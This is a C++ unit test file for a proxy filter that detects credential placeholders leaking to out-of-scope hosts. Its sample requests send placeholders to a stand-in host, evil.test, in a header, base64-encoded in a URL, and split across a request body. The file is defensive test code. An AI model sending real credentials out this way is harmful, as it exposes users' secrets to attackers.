#include "proxy/detection_filter.h"

#include <gtest/gtest.h>

#include "proxy/destination_filter.h"
#include "proxy/filter_test_util.h"
#include "vault/crypto.h"

namespace cloister::proxy::testing {
namespace {

// Destination first (it computes the scope), then detection.
Status Head(Exchange& ex) {
  RETURN_IF_ERROR(DestinationFilter().OnRequestHead(ex));
  return DetectionFilter().OnRequestHead(ex);
}

TEST(DetectionFilterTest, PlaceholderOutOfScopeInTheHeadTrips) {
  FilterHarness h;
  auto ex = h.Make("GET", "http://evil.test/", {{"Host", "evil.test"}, {"X-Key", h.Placeholder(0)}});
  Status st = Head(*ex);
  ASSERT_FALSE(st.ok());
  EXPECT_EQ(st.error().code(), ErrorCode::kCompromised);
  ASSERT_EQ(ex->block.size(), 1u);
  EXPECT_EQ(ex->block[0].credential, "anthropic");
  EXPECT_EQ(ex->block[0].where, "header:x-key");
  auto url = h.Make("GET", "http://evil.test/?k=" + vault::Base64Encode(h.Placeholder(1)),
                    {{"Host", "evil.test"}});
  EXPECT_FALSE(Head(*url).ok());
  ASSERT_EQ(url->block.size(), 1u);
  EXPECT_EQ(url->block[0].where, "url");
  EXPECT_EQ(url->block[0].encoding, "base64");
}

TEST(DetectionFilterTest, PlaceholderInScopeIsNotALeak) {
  FilterHarness h;
  auto ex = h.Make("GET", "http://api.github.com/", {{"Host", "api.github.com"},
                                                      {"Authorization", "token " + h.Placeholder(1)}});
  EXPECT_TRUE(Head(*ex).ok());
  EXPECT_TRUE(ex->block.empty());
}

TEST(DetectionFilterTest, BodySplitAcrossPiecesAndTheLlmFlagPolicy) {
  FilterHarness h;
  auto ex = h.Make("POST", "http://evil.test/", {{"Host", "evil.test"}});
  ASSERT_TRUE(Head(*ex).ok());
  DetectionFilter d;
  std::string ph = h.Placeholder(2);
  std::string a = "xx" + ph.substr(0, 10), b = ph.substr(10) + "yy";
  EXPECT_TRUE(d.OnRequestBody(*ex, a, false).ok());
  EXPECT_FALSE(d.OnRequestBody(*ex, b, true).ok());
  ASSERT_EQ(ex->block.size(), 1u);
  EXPECT_EQ(ex->block[0].where, "body");

  // To an LLM provider under 'flag': recorded, forwarded.
  auto llm = h.Make("POST", "http://api.anthropic.com/v1", {{"Host", "api.anthropic.com"}});
  ASSERT_TRUE(Head(*llm).ok());
  std::string body = "{\"content\":\"" + h.Placeholder(1) + "\"}";
  EXPECT_TRUE(d.OnRequestBody(*llm, body, true).ok());
  ASSERT_EQ(llm->rec.leaks.size(), 1u);
  EXPECT_EQ(llm->rec.leaks[0].action, "flagged");
  h.config.llm_body_policy = vault::LlmBodyPolicy::kBlock;
  auto blocked = h.Make("POST", "http://api.anthropic.com/v1", {{"Host", "api.anthropic.com"}});
  ASSERT_TRUE(Head(*blocked).ok());
  std::string body2 = body;
  EXPECT_FALSE(d.OnRequestBody(*blocked, body2, true).ok());
}

}  // namespace
}  // namespace cloister::proxy::testing
